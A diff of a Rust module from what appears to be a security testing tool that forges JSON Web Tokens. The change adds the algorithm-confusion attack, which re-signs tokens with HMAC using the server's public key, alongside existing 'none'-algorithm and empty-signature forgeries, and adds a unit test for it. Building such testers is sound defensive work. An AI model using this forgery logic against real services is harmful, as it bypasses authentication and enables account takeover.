@@ -28,7 +28,14 @@ pub(super) struct Forgery {
 }
 
 /// The good JWT rewritten. What is missing for it, as a fragment.
-pub(super) fn rewrite(good: &str, forgery: &Forgery, rng: &mut ChaCha8Rng) -> Result<String, NotMade> {
+///
+/// `public` is the key that the endpoint signs with, as PEM: a server that is tricked takes its text for a secret.
+pub(super) fn rewrite(
+    good: &str,
+    forgery: &Forgery,
+    public: Option<&str>,
+    rng: &mut ChaCha8Rng,
+) -> Result<String, NotMade> {
     let parts: Vec<&str> = good.split('.').collect();
     let [head, claims, signature] = parts[..] else { return Err(no_jwt()) };
     let mut header = object(head).ok_or_else(no_jwt)?;
@@ -44,7 +51,17 @@ pub(super) fn rewrite(good: &str, forgery: &Forgery, rng: &mut ChaCha8Rng) -> Re
         (Some(ForgeSignature::Empty), _) => String::new(),
         (None, _) if alg.eq_ignore_ascii_case("none") => String::new(),
         (Some(ForgeSignature::Kept), _) | (None, None) => signature.to_owned(),
-        (None, Some(ForgeKey::Public)) => return Err(NotMade::moot("the server's public key is not known")),
+        (None, Some(ForgeKey::Public)) => {
+            let good = object(head).and_then(|head| head.get("alg")?.as_str().map(str::to_owned));
+            if good.is_some_and(|alg| alg.starts_with("HS")) {
+                let why = "the token is signed with a shared secret, so there is no public key";
+                return Err(NotMade::moot(why));
+            }
+            let public = public
+                .ok_or_else(|| NotMade::moot("the public key that the endpoint signs with is not known"))?;
+            with_secret(&signed, &alg, public.as_bytes())
+                .ok_or_else(|| NotMade::from("only an HMAC can take a public key"))?
+        }
         (None, Some(key)) => sign(&signed, &alg, key, rng),
     };
     Ok(format!("{signed}.{signature}"))
@@ -105,23 +122,28 @@ fn part(old: &str, members: &Map<String, Value>) -> String {
 
 /// An HMAC for HS algorithms; for the others noise of a plausible length, which no key has made either.
 fn sign(text: &str, alg: &str, key: ForgeKey, rng: &mut ChaCha8Rng) -> String {
-    let algorithm = match alg {
-        "HS384" => hmac::HMAC_SHA384,
-        "HS512" => hmac::HMAC_SHA512,
-        "HS256" => hmac::HMAC_SHA256,
-        _ => {
-            let mut noise = [0; 256];
-            rng.fill_bytes(&mut noise);
-            return URL_SAFE_NO_PAD.encode(noise);
-        }
-    };
     let mut secret = [0; 32];
     rng.fill_bytes(&mut secret);
     let secret: &[u8] = match key {
         ForgeKey::Other | ForgeKey::Public => &secret,
         ForgeKey::Empty => &[],
     };
-    URL_SAFE_NO_PAD.encode(hmac::sign(&hmac::Key::new(algorithm, secret), text.as_bytes()))
+    with_secret(text, alg, secret).unwrap_or_else(|| {
+        let mut noise = [0; 256];
+        rng.fill_bytes(&mut noise);
+        URL_SAFE_NO_PAD.encode(noise)
+    })
+}
+
+/// The HMAC of an HS algorithm.
+fn with_secret(text: &str, alg: &str, secret: &[u8]) -> Option<String> {
+    let algorithm = match alg {
+        "HS256" => hmac::HMAC_SHA256,
+        "HS384" => hmac::HMAC_SHA384,
+        "HS512" => hmac::HMAC_SHA512,
+        _ => return None,
+    };
+    Some(URL_SAFE_NO_PAD.encode(hmac::sign(&hmac::Key::new(algorithm, secret), text.as_bytes())))
 }
 
 #[cfg(test)]
@@ -139,7 +161,7 @@ mod tests {
     }
 
     fn forged(forgery: &Forgery) -> String {
-        rewrite(&good(), forgery, &mut ChaCha8Rng::seed_from_u64(1)).unwrap()
+        rewrite(&good(), forgery, None, &mut ChaCha8Rng::seed_from_u64(1)).unwrap()
     }
 
     fn parts(token: &str) -> (String, String, String) {
@@ -186,8 +208,25 @@ mod tests {
     }
 
     #[test]
+    fn a_public_key_is_a_secret_only_for_a_token_that_it_signs() {
+        let forgery =
+            Forgery { alg: Some("HS256".to_owned()), key: Some(ForgeKey::Public), ..Forgery::default() };
+        let why = |good: &str, public: Option<&str>| {
+            rewrite(good, &forgery, public, &mut ChaCha8Rng::seed_from_u64(1)).unwrap_err().why
+        };
+        let head = URL_SAFE_NO_PAD.encode(r#"{"alg":"ES256"}"#);
+        let asymmetric = format!("{head}.{}.c2ln", URL_SAFE_NO_PAD.encode(r#"{"sub":"kerala"}"#));
+        assert!(why(&good(), Some("PEM")).contains("shared secret"));
+        assert!(why(&asymmetric, None).contains("not known"));
+        let mut rng = ChaCha8Rng::seed_from_u64(1);
+        let made = rewrite(&asymmetric, &forgery, Some("PEM"), &mut rng).unwrap();
+        let (signed, signature) = made.rsplit_once('.').unwrap();
+        assert_eq!(with_secret(signed, "HS256", b"PEM").unwrap(), signature);
+    }
+
+    #[test]
     fn an_opaque_token_cannot_be_forged() {
-        let none = rewrite("opaque", &Forgery::default(), &mut ChaCha8Rng::seed_from_u64(1));
+        let none = rewrite("opaque", &Forgery::default(), None, &mut ChaCha8Rng::seed_from_u64(1));
         assert_eq!(none, Err(no_jwt()));
     }
 }
